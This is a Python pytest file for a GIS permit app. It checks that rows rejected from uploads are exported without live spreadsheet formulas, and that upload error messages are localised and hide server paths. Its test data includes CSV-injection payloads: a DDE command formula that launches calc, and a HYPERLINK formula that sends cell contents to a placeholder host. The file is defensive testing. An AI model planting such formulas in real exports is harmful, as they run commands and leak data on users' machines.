"""Hostile uploads and imports: formulas in rejects files, files that make GDAL read elsewhere,
zip bombs, limits, quotas and who may confirm.  Every hostile file is made by the test."""

import csv
import html
import io
import re

import pandas as pd
import pytest
from click.testing import CliRunner

from gisapp import create_app
from gisapp.accounts import Accounts
from gisapp.cli import cli

PASSWORD = "correct horse battery"
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-3+4",
            "\t=1+1", "\r=1+1"]


def make_app(store_url, tmp_path, **config):
    accounts = Accounts(tmp_path / "acc.sqlite")
    for name, role in (("officer1", "officer"), ("officer2", "officer"), ("admin1", "admin")):
        if accounts.get(name) is None:
            accounts.add(name, PASSWORD, role)
    return create_app({"STORE": store_url, "ACCOUNTS": str(tmp_path / "acc.sqlite"),
                       "UPLOADS": str(tmp_path / "uploads"), "TESTING": True, "MAX_UPLOAD_MB": 1, **config})


@pytest.fixture
def app(demo_store, tmp_path):
    return make_app(demo_store.url, tmp_path)


def token_of(page: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


def signed_in(app, name):
    client = app.test_client()
    csrf = token_of(client.get("/login").get_data(as_text=True))
    assert client.post("/login", data={"username": name, "password": PASSWORD, "csrf_token": csrf}).status_code == 302
    return client


def upload(client, content, name="permits.geojson", layer="sidewalk_permits", lang=None, **extra):
    page = client.get("/upload").get_data(as_text=True)
    data = {"layer": layer, "mode": "upsert", "csrf_token": token_of(page), "file": (io.BytesIO(content), name),
            **extra}
    return client.post("/upload" + (f"?lang={lang}" if lang else ""), data=data, content_type="multipart/form-data")


def text_of(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def error_of(response) -> str:
    """The upload page's error message."""
    found = re.search(r'data-testid="upload-error">(.*?)</p>', response.get_data(as_text=True), re.S)
    assert found, response.get_data(as_text=True)[-1500:]
    return html.unescape(found.group(1))


def sidewalk_rows(demo_store, n=3) -> pd.DataFrame:
    """``n`` sidewalk permits of the demo as new rows (WGS84, dates as text)."""
    rows = demo_store.read("sidewalk_permits", limit=n).copy()
    rows["permit_no"] = [f"UP-{i}" for i in range(1, n + 1)]
    for col in ("start_on", "end_on"):
        rows[col] = rows[col].dt.strftime("%Y-%m-%d")
    return rows.to_crs(4326)


def geojson_bytes(frame, tmp_path, name="rows.geojson") -> bytes:
    path = tmp_path / name
    frame.to_file(path, driver="GeoJSON")
    return path.read_bytes()


# -- 6: rejected rows come back without live formulas ------------------------------------------


@pytest.fixture
def formula_rows(demo_store):
    """Sidewalk permits that all end before they start, keyed and described with formulas."""
    rows = sidewalk_rows(demo_store, len(FORMULAS))
    rows["permit_no"] = FORMULAS
    rows["owner_note"] = FORMULAS[::-1]
    rows["end_on"] = "2000-01-01"
    return rows


def assert_no_live_formula(raw: bytes):
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    cells = [c for row in table for c in row]
    assert any(c.startswith("'=cmd") for c in cells) and any(c.startswith("'@SUM") for c in cells)
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, live


def test_rejects_from_the_upload_page_carry_no_live_formula(app, formula_rows, tmp_path):
    client = signed_in(app, "officer1")
    page = upload(client, geojson_bytes(formula_rows, tmp_path)).get_data(as_text=True)
    assert re.search(rf'data-testid="rejected">{len(FORMULAS)}<', page)
    rejects_url = re.search(r'data-testid="rejects-link" href="([^"]+)"', page).group(1)
    assert_no_live_formula(client.get(rejects_url).data)


def test_rejects_from_the_command_carry_no_live_formula(demo_store, formula_rows, tmp_path):
    path = tmp_path / "formulas.geojson"
    path.write_bytes(geojson_bytes(formula_rows, tmp_path))
    result = CliRunner().invoke(cli, ["--store", str(demo_store.path), "import", "sidewalk_permits", str(path)])
    assert result.exit_code == 1 and "every row was rejected" in result.output
    assert_no_live_formula((tmp_path / "formulas.rejects.csv").read_bytes())


# -- 7: messages in the user's language, without server paths or command-line flags ---------------


def dossier_csv() -> bytes:
    return "Mã hồ sơ,Trạng thái,Ngày tiếp nhận\nHS-1,Mới đăng ký,2022-03-01\n".encode()


@pytest.mark.parametrize("lang, field", [("vi", "Thửa đất (khi nhập bảng hồ sơ)"),
                                         ("en", "Parcels (for a table of dossiers)")])
def test_a_table_without_parcels_names_the_form_field(app, lang, field):
    r = upload(signed_in(app, "officer1"), dossier_csv(), name="ho_so.csv", layer="construction_permits", lang=lang)
    page = error_of(r)
    assert r.status_code == 400 and field in page and "--parcels" not in page
    assert ("là bảng" if lang == "vi" else "is a table") in page


@pytest.mark.parametrize("lang, field", [("vi", "Hệ tọa độ nếu tệp không có"), ("en", "CRS if the file has none")])
def test_a_file_without_crs_names_the_form_field(app, demo_store, tmp_path, lang, field):
    rows = sidewalk_rows(demo_store, 1).to_crs(5899).set_crs(None, allow_override=True)
    rows.to_file(tmp_path / "no_crs.gpkg", layer="sidewalk_permits")
    r = upload(signed_in(app, "officer1"), (tmp_path / "no_crs.gpkg").read_bytes(), name="no_crs.gpkg", lang=lang)
    page = error_of(r)
    assert r.status_code == 400 and field in page and "--crs" not in page


@pytest.mark.parametrize("name, content", [("broken.gpkg", b"garbage"),
                                           ("broken.geojson", b'{"type": "FeatureCollection", "features": [')])
def test_unreadable_files_are_refused_without_server_paths(app, tmp_path, name, content):
    r = upload(signed_in(app, "officer1"), content, name=name, lang="en")
    page = error_of(r)
    assert r.status_code == 400 and name in page and "cannot read" in page
    assert str(tmp_path) not in page and "/files/" not in page and "<DRIVER>" not in page
